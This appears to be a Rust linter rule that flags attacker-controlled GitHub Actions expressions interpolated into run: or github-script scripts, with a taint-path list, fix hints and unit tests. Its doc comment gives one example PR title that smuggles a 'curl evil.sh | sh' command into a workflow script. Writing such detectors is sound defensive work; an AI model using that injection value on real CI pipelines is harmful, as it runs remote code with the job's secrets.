use crate::context::{Diagnostic, WorkflowContext};
use crate::rules::rule_impl;
use ship_workflow::expr::{context_references, expressions};
use ship_workflow::ActionRef;

declare_rule! {
    /// ## What it reports
    /// An attacker-controllable value interpolated with `${{ }}` into a `run:` script (or
    /// an `actions/github-script` script): issue, PR, comment, review and discussion titles
    /// and bodies, commit messages and authors, branch names (`github.head_ref`,
    /// `github.event.pull_request.head.ref`, `workflow_run.head_branch`), and the `inputs`
    /// of a manual dispatch.
    ///
    /// ## Why
    /// The expression is pasted into the script before the shell parses it. A PR titled
    /// ``a"; curl evil.sh | sh; echo "`` runs that command with the job's token and secrets.
    ///
    /// ## How to fix
    /// Pass the value through an environment variable and quote it in the script:
    ///
    /// ```yaml
    ///       - env:
    ///           TITLE: ${{ github.event.pull_request.title }}
    ///         run: echo "$TITLE"
    /// ```
    pub struct TemplateInjection {
        id: "template-injection",
        severity: Error,
        summary: "an attacker-controllable expression is interpolated into a script",
    }
}
rule_impl!(TemplateInjection, workflow, actions);

/// Context paths whose values an outside contributor (or a dispatcher) chooses.
fn is_tainted(r: &str) -> bool {
    let r = r.to_ascii_lowercase();
    if r == "github.head_ref" || r.starts_with("inputs.") || r.starts_with("github.event.inputs.") {
        return true;
    }
    let Some(ev) = r.strip_prefix("github.event.") else {
        return false;
    };
    const SUFFIXES: &[&str] = &[
        ".title",
        ".body",
        ".message",
        ".head_ref",
        ".head.ref",
        ".head.label",
        ".head_branch",
        ".display_title",
        ".name",
        ".email",
        ".page_name",
        ".default_branch",
    ];
    let untrusted_root = [
        "issue",
        "pull_request",
        "comment",
        "review",
        "review_comment",
        "discussion",
        "head_commit",
        "commits",
        "workflow_run",
        "pages",
        "release",
    ]
    .iter()
    .any(|root| ev.starts_with(root));
    untrusted_root && SUFFIXES.iter().any(|s| ev.ends_with(s))
        || ev.ends_with(".head.ref")
        || ev.starts_with("commits.") && (ev.ends_with(".message") || ev.contains(".author."))
}

impl TemplateInjection {
    fn check(&self, cx: &WorkflowContext<'_>, out: &mut Vec<Diagnostic>) {
        for job in &cx.workflow.jobs {
            for step in &job.steps {
                let is_github_script = step.run.is_none()
                    && matches!(
                        step.action(),
                        Some(ActionRef::Repository {
                            owner: "actions",
                            repo: "github-script",
                            ..
                        })
                    );
                let script = if let Some(run) = step.run {
                    Some(run)
                } else if is_github_script {
                    step.with.and_then(|w| w.get("script"))
                } else {
                    None
                };
                let Some(node) = script else { continue };
                let Some(text) = node.as_str() else { continue };
                if !text.contains("${{") {
                    continue;
                }
                for e in expressions(text) {
                    let Some(tainted) = context_references(e.inner)
                        .into_iter()
                        .find(|r| is_tainted(r))
                    else {
                        continue;
                    };
                    let span = cx
                        .source
                        .find_nth_in_span(node.span, e.raw, text[..e.offset].matches(e.raw).count())
                        .unwrap_or(node.span);
                    let var = tainted
                        .rsplit('.')
                        .next()
                        .unwrap_or("VALUE")
                        .to_ascii_uppercase()
                        .replace('-', "_");
                    let (message, help) = if is_github_script {
                        (
                            format!("`{tainted}` is interpolated into a github-script script: its value can inject JavaScript"),
                            format!("pass it through `env:` (`{var}: ${{{{ {tainted} }}}}`) and read `process.env.{var}` in the script"),
                        )
                    } else {
                        (
                            format!("`{tainted}` is interpolated into a script: its value can inject shell commands"),
                            format!("pass it through `env:` (`{var}: ${{{{ {tainted} }}}}`) and use \"${var}\" in the script"),
                        )
                    };
                    out.push(Diagnostic::new(span, message, help));
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::is_tainted;

    #[test]
    fn taint() {
        assert!(is_tainted("github.event.pull_request.title"));
        assert!(is_tainted("github.event.issue.body"));
        assert!(is_tainted("github.head_ref"));
        assert!(is_tainted("github.event.pull_request.head.ref"));
        assert!(is_tainted("inputs.version"));
        assert!(is_tainted("github.event.head_commit.message"));
        assert!(!is_tainted("github.sha"));
        assert!(!is_tainted("github.event.pull_request.number"));
        assert!(!is_tainted("github.event.pull_request.head.sha"));
    }
}
